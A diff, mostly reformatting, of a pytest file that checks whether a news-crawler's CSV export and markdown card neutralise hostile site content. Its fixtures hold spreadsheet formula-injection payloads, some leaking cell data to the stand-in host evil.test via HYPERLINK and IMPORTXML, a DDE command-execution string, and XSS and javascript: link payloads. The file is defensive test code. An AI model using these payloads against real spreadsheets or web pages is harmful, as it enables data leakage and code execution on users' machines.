@@ -6,7 +6,6 @@ from __future__ import annotations
 import csv
 import json
 import re
-from pathlib import Path
 
 import pytest
 
@@ -21,13 +20,16 @@ FILLER = ("The regional council voted on Tuesday to extend the evening bus servi
           "after residents of three villages asked for a way home from late shifts in the city.")  # fmt: skip
 # (title, first words of the text): each a live formula in a spreadsheet if written as is.
 HOSTILE = [
-    ('=HYPERLINK("http://evil.test/?leak="&A2,"Click for details")', '=1+2 is what the clerk wrote first.'),
+    (
+        '=HYPERLINK("http://evil.test/?leak="&A2,"Click for details")',
+        "=1+2 is what the clerk wrote first.",
+    ),
     ("+SUM(1,2) budget row", "+cmd|' /C calc'!A0 appeared in the minutes."),
-    ("-2+3 votes counted twice", "-IMPORTXML(CONCAT(\"http://evil.test/\",A1),\"//a\") was pasted in."),
+    ("-2+3 votes counted twice", '-IMPORTXML(CONCAT("http://evil.test/",A1),"//a") was pasted in.'),
     ("@SUM(A1:A9) in the headline", "@IF(1,2) says the report's first line."),
 ]
-XSS = '<img src=x onerror=alert(document.domain)>'
-LINK = '[terms](javascript:alert(1))'
+XSS = "<img src=x onerror=alert(document.domain)>"
+LINK = "[terms](javascript:alert(1))"
 
 
 def _page(title: str, first: str) -> bytes:
@@ -51,7 +53,9 @@ def hostile_export(tmp_path_factory):
         config.write_text(MIRROR_CONFIG + f'\n[sites.hostile]\nstart_urls = ["{site.url}/"]\narticle_pattern = "^/2024/"\n'
                           f'terms_url = "javascript:alert(1)"\n')  # fmt: skip
         data = tmp / "data"
-        crawled = run_cli("crawl", "hostile", "--no-progress", "--json", data_dir=data, config=config)
+        crawled = run_cli(
+            "crawl", "hostile", "--no-progress", "--json", data_dir=data, config=config
+        )
         assert crawled.returncode == 0, crawled.stderr
         assert json.loads(crawled.stdout)["articles_new"] == len(HOSTILE), crawled.stdout
     return data, config, tmp
@@ -60,7 +64,17 @@ def hostile_export(tmp_path_factory):
 def _export(hostile_export, *args: str, name: str) -> tuple[list[dict], str]:
     data, config, tmp = hostile_export
     out = tmp / name
-    result = run_cli("export", "--format", "csv", "--out", str(out), "--no-progress", *args, data_dir=data, config=config)
+    result = run_cli(
+        "export",
+        "--format",
+        "csv",
+        "--out",
+        str(out),
+        "--no-progress",
+        *args,
+        data_dir=data,
+        config=config,
+    )
     assert result.returncode == 0, result.stderr
     with open(out, newline="", encoding="utf-8") as fh:
         rows = list(csv.DictReader(fh))
@@ -82,13 +96,24 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(hostile_export):
 def test_csv_raw_keeps_the_values_and_the_card_says_so(hostile_export):
     rows, card = _export(hostile_export, "--csv-raw", name="raw.csv")
     assert {r["title"] for r in rows} == {title for title, _ in HOSTILE}
-    assert {r["text"].split(" ", 1)[0] for r in rows} == {first.split(" ", 1)[0] for _, first in HOSTILE}
+    assert {r["text"].split(" ", 1)[0] for r in rows} == {
+        first.split(" ", 1)[0] for _, first in HOSTILE
+    }
     assert "--csv-raw" in card and "live formula" in card
 
 
 def test_csv_raw_is_only_for_csv(hostile_export):
     data, config, tmp = hostile_export
-    result = run_cli("export", "--format", "jsonl", "--csv-raw", "--out", str(tmp / "x.jsonl"), data_dir=data, config=config)
+    result = run_cli(
+        "export",
+        "--format",
+        "jsonl",
+        "--csv-raw",
+        "--out",
+        str(tmp / "x.jsonl"),
+        data_dir=data,
+        config=config,
+    )
     assert result.returncode == 2 and "--csv-raw applies to --format csv only" in result.stderr
 
 
@@ -114,8 +139,12 @@ def test_the_card_escapes_everything_the_site_controls(hostile_export):
 
 def test_markdown_helpers():
     assert md_text("a|b [x](y) <b> & `c` *d* _e_ ~f~ $g$ #h !i\nj") == (
-        "a\\|b \\[x\\]\\(y\\) &lt;b&gt; &amp; \\`c\\` \\*d\\* \\_e\\_ \\~f\\~ \\$g\\$ \\#h \\!i j")
+        "a\\|b \\[x\\]\\(y\\) &lt;b&gt; &amp; \\`c\\` \\*d\\* \\_e\\_ \\~f\\~ \\$g\\$ \\#h \\!i j"
+    )
     assert md_text("cnn-lite") == "cnn-lite"
     assert md_url("https://example.org/robots.txt") == "<https://example.org/robots.txt>"
-    assert md_url("https://e.org/<x>") == "https://e.org/&lt;x&gt;" and md_url("javascript:x") == "javascript:x"
+    assert (
+        md_url("https://e.org/<x>") == "https://e.org/&lt;x&gt;"
+        and md_url("javascript:x") == "javascript:x"
+    )
     assert md_code("a`b") == "``a`b``" and md_code("`x") == "`` `x ``"
